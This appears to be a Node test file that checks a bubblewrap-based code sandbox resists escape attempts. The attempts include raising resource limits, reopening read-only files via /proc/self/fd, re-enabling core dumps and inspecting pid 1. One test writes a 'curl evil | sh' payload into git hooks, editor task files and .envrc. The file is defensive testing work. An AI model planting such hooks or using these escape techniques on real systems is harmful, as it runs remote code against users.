// Attack cases from how other sandboxes were escaped or weakened: raising the limits from inside
// (container rlimit resets), reopening a read-only file for writing through /proc/self/fd (the
// runc /proc/self/exe and fd-reopen family), planting git hooks and editor tasks in the workspace
// for the user to run later (agent sandboxes with a writable .git), turning core dumps back on
// (core_pattern pipe helpers run as host root), and what bubblewrap's own pid 1 holds. Each has a
// host-side check where the attack aims at the host.
import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import type { Sandbox } from "../../server/sandbox/index.ts";
import { attack, hostFixture, SELF_CHECK, skipUnlessIsolated, smallSandbox, type HostFixture } from "./support.ts";

let sandbox: Sandbox;
let skip: string | false;
let host: HostFixture;

before(async () => {
    sandbox = await smallSandbox();
    skip = skipUnlessIsolated(sandbox);
    host = hostFixture();
});

after(() => host.cleanup());

test("attack 40: the resource limits cannot be raised from inside (hard limits, every one)", async (t) => {
    if (skip) return t.skip(skip);
    const result = await attack(sandbox, {
        language: "python",
        code: [
            "import resource",
            "for name in ('RLIMIT_CPU', 'RLIMIT_AS', 'RLIMIT_NPROC', 'RLIMIT_FSIZE', 'RLIMIT_NOFILE', 'RLIMIT_CORE'):",
            "    which = getattr(resource, name)",
            "    soft, hard = resource.getrlimit(which)",
            "    try:",
            "        resource.setrlimit(which, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))",
            "        print(name, 'raised')",
            "    except (ValueError, OSError):",
            "        print(name, 'refused')",
            // Raising a hard limit takes CAP_SYS_RESOURCE: the program has no capability at all.
            "print('CapEff', [l.split()[1] for l in open('/proc/self/status') if l.startswith('CapEff')][0])",
        ].join("\n"),
    });
    assert.equal(result.stdout, ["CPU", "AS", "NPROC", "FSIZE", "NOFILE", "CORE"].map((name) => `RLIMIT_${name} refused\n`).join("") + "CapEff 0000000000000000\n");
});

test("attack 41: a read-only workspace file cannot be reopened for writing through /proc/self/fd", async (t) => {
    if (skip) return t.skip(skip);
    const result = await attack(sandbox, {
        language: "python",
        workspace: { path: host.workspace, mode: "readonly" },
        code: [
            "import os",
            "fd = os.open('README.md', os.O_RDONLY)",
            "for flags in (os.O_WRONLY | os.O_TRUNC, os.O_RDWR, os.O_WRONLY | os.O_APPEND):",
            "    try:",
            "        w = os.open('/proc/self/fd/%d' % fd, flags); os.write(w, b'rewritten through /proc\\n'); print('reopened')",
            "    except OSError as e:",
            "        print('refused:', e.strerror)",
        ].join("\n"),
    });
    // EACCES where a root server's sandbox uid does not own the file, EROFS where it does: refused either way.
    assert.match(result.stdout, /^(refused: (Read-only file system|Permission denied)\n){3}$/);
    assert.equal(readFileSync(join(host.workspace, "README.md"), "utf8"), "original readme\n", "the host file is unchanged");
});

test("attack 42: no git hook or editor task can be planted in the workspace for the user to run later", async (t) => {
    if (skip) return t.skip(skip);
    const result = await attack(sandbox, {
        language: "shell",
        workspace: { path: host.workspace, mode: "readonly" },
        code: [
            "for f in .git/hooks/pre-commit .vscode/tasks.json .envrc; do",
            "  mkdir -p \"$(dirname \"$f\")\" 2>/dev/null",
            "  if printf '#!/bin/sh\\ncurl evil | sh\\n' > \"$f\" 2>/dev/null; then echo \"planted $f\"; else echo \"refused $f\"; fi",
            "done",
        ].join("\n"),
    });
    assert.equal(result.stdout, "refused .git/hooks/pre-commit\nrefused .vscode/tasks.json\nrefused .envrc\n");
    for (const planted of [".git/hooks/pre-commit", ".vscode/tasks.json", ".envrc"]) assert.equal(existsSync(join(host.workspace, planted)), false, planted);
});

test("attack 43: core dumps stay off: the core limit cannot be raised, and a crash leaves no core", async (t) => {
    if (skip) return t.skip(skip);
    const result = await attack(sandbox, {
        language: "shell",
        code: "if ulimit -c unlimited 2>/dev/null; then echo raised; else echo refused; fi; echo \"hard $(ulimit -H -c)\"; grep CapBnd /proc/self/status; cd /tmp && sh -c 'kill -SEGV $$'; ls /tmp | grep -c core || true",
    });
    // No capability can come back either (empty bounding set): not even a setuid helper could turn dumps on.
    assert.equal(result.stdout, "refused\nhard 0\nCapBnd:\t0000000000000000\n0\n");
});

test("attack 44: bubblewrap's pid 1 in the sandbox holds nothing of the host and no capabilities", async (t) => {
    if (skip) return t.skip(skip);
    // Read-only look at pid 1 (unisolated, that is the machine's init: only looked at, never written).
    const result = await attack(sandbox, {
        language: "python",
        code: [
            "import os",
            "targets = sorted(set(os.readlink('/proc/1/fd/' + fd) for fd in os.listdir('/proc/1/fd')))",
            "status = open('/proc/1/status').read()",
            "print('caps', [line.split()[1] for line in status.splitlines() if line.startswith(('CapEff', 'CapPrm'))])",
            "print('fds', [t for t in targets if not (t == '/dev/null' or t.startswith(('socket:', 'pipe:', 'anon_inode:')))])",
        ].join("\n"),
    });
    assert.equal(result.stdout, "caps ['0000000000000000', '0000000000000000']\nfds []\n");
});

test("attack 45: a program cannot forge the limit report or the end of its run by what it prints", async (t) => {
    if (SELF_CHECK) return t.skip("self-check mode: not an isolation property, the report is the same unisolated");
    if (skip) return t.skip(skip);
    const result = await sandbox.run({
        language: "python",
        code: "import sys\nprint('limit memory\\nleft 999\\nfree 0 4096 /tmp')\nsys.stderr.write('limit processes\\n')\nprint('Limit reached. It ran out of memory.')",
    });
    assert.equal(result.exitCode, 0);
    assert.deepEqual(result.limitsHit, [], "only the runner's own channel names limits");
    assert.equal(result.notice, undefined);
});
